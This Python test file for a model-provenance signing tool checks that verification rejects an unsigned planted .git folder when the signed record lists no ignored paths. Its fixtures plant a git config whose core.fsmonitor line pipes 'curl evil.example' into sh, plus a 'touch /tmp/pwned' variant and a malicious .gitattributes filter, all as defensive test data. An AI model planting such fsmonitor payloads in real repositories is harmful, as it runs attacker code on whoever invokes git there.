"""Issue 25 F7: verify hashes with exactly the ``ignore_paths`` that were signed.

A coordinator's checkpoint record signs ``ignore_paths: []`` (nothing ignored),
but verify read ``serialization.get("ignore_paths") or DEFAULT_IGNORE``: the
empty list became OMS's defaults, so a model folder with an unsigned ``.git/``
(a planted ``core.fsmonitor`` runs on the next ``git status`` there) verified.
An empty list means nothing is ignored; only an absent key means the default.
"""

from __future__ import annotations

import json
import sys
from pathlib import Path

import pytest

from slsa_dist.cli import main as cli_main
from slsa_dist.digest._descriptors import artifact_descriptors
from slsa_dist.digest._manifest import DEFAULT_IGNORE, digest_path
from slsa_dist.errors import InputError
from slsa_dist.model._statement import ProvenanceBuilder, record_descriptor
from slsa_dist.sign._dsse import sign_statement, write_bundle
from slsa_dist.sign._keys import Signer

from support.modeljob import signed_model_job


def _plant_git(model: Path) -> None:
    (model / ".git").mkdir()
    (model / ".git" / "config").write_text("[core]\n\tfsmonitor = curl evil.example | sh\n")


@pytest.mark.parametrize("ledger", [False, True], ids=["inline", "ledger"])
def test_an_unsigned_git_folder_fails_when_the_record_signed_no_ignored_paths(
        tmp_path: Path, ledger: bool, capsys: pytest.CaptureFixture[str]) -> None:
    signer = Signer.generate()
    public = tmp_path / "signing.pub"
    public.write_bytes(signer.public().public_pem())
    bundle, model = signed_model_job(tmp_path / "job", signer, ledger=ledger)
    base = ["verify", str(bundle), "--key", str(public), "--artifact", str(model)]
    assert cli_main(base) == 0, capsys.readouterr().out
    capsys.readouterr()
    _plant_git(model)
    assert cli_main(base) == 1
    out = capsys.readouterr().out
    assert "unexpected: .git/config" in out


def _step_bundle(tmp_path: Path, serialization_change: dict[str, object] | None,
                 drop: bool) -> tuple[Path, Path, Path]:
    """A single-step provenance for a folder, its record's ignore_paths changed."""
    signer = Signer.generate()
    model = tmp_path / "model"
    model.mkdir()
    (model / "w.bin").write_bytes(b"w")
    subject, record = artifact_descriptors(digest_path(model), name="model")
    annotations = json.loads(json.dumps(dict(record.annotations)))
    if drop:
        del annotations["serialization"]["ignore_paths"]
    if serialization_change:
        annotations["serialization"].update(serialization_change)
    builder = ProvenanceBuilder(invocation_id="step-1",  # a single step: no ranks to count
                                build_type="https://slsa-dist.dev/buildtypes/step/v1")
    builder.add_subject(subject)
    builder.add_byproduct(record_descriptor(name=record.name or "", media_type=record.media_type
                                            or "", record=annotations))
    bundle = write_bundle(tmp_path / "step.intoto.jsonl",
                          [sign_statement(builder.build(), [signer])])
    public = tmp_path / "signing.pub"
    public.write_bytes(signer.public().public_pem())
    return bundle, public, model


def test_an_absent_ignore_paths_means_the_documented_default(tmp_path: Path) -> None:
    bundle, public, model = _step_bundle(tmp_path, None, drop=True)
    _plant_git(model)  # ignored by the default, which is what "absent" signs
    assert cli_main(["verify", str(bundle), "--key", str(public), "--artifact",
                     str(model)]) == 0


def test_an_explicit_list_is_used_as_signed(tmp_path: Path,
                                            capsys: pytest.CaptureFixture[str]) -> None:
    bundle, public, model = _step_bundle(tmp_path, {"ignore_paths": [".github"]}, drop=False)
    _plant_git(model)
    assert cli_main(["verify", str(bundle), "--key", str(public), "--artifact",
                     str(model)]) == 1
    assert "unexpected: .git/config" in capsys.readouterr().out


def test_the_rule_in_one_place() -> None:
    from slsa_dist.digest._manifest import signed_ignore_paths

    assert signed_ignore_paths({}) == DEFAULT_IGNORE
    assert signed_ignore_paths({"ignore_paths": []}) == ()
    assert signed_ignore_paths({"ignore_paths": [".git"]}) == (".git",)
    with pytest.raises(InputError, match="ignore_paths"):
        signed_ignore_paths({"ignore_paths": ".git"})
    with pytest.raises(InputError, match="ignore_paths"):
        signed_ignore_paths({"ignore_paths": None})


def test_slsa_dist_run_signs_every_file_of_its_output_folder(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
        capsys: pytest.CaptureFixture[str]) -> None:
    """Found by an independent review (the F7 shape in another verb): ``slsa-dist run``
    recorded its output folder with OMS's default ignore list, so a planted ``.git/``
    (with ``core.fsmonitor``) and ``.gitattributes`` passed ``verify --artifact``."""
    monkeypatch.chdir(tmp_path)
    assert cli_main(["keygen", "--out", "keys"]) == 0
    script = "import os; os.makedirs('model', exist_ok=True); " \
             "open('model/model.safetensors', 'w').write('w'); " \
             "open('model/config.json', 'w').write('{}')"
    assert cli_main(["run", "--output", "model", "--key", "keys/signing.key", "--bundle",
                     "step.intoto.jsonl", "--step-id", "quant-1", "--", sys.executable, "-c",
                     script]) == 0
    assert cli_main(["verify", "step.intoto.jsonl", "--key", "keys/signing.pub",
                     "--artifact", "model"]) == 0
    (tmp_path / "model" / ".git").mkdir()
    (tmp_path / "model" / ".git" / "config").write_text(
        '[core]\n\tfsmonitor = "touch /tmp/pwned #"\n')
    (tmp_path / "model" / ".gitattributes").write_text("* filter=evil\n")
    capsys.readouterr()
    assert cli_main(["verify", "step.intoto.jsonl", "--key", "keys/signing.pub",
                     "--artifact", "model"]) == 1
    assert "FAIL  artifact" in capsys.readouterr().out
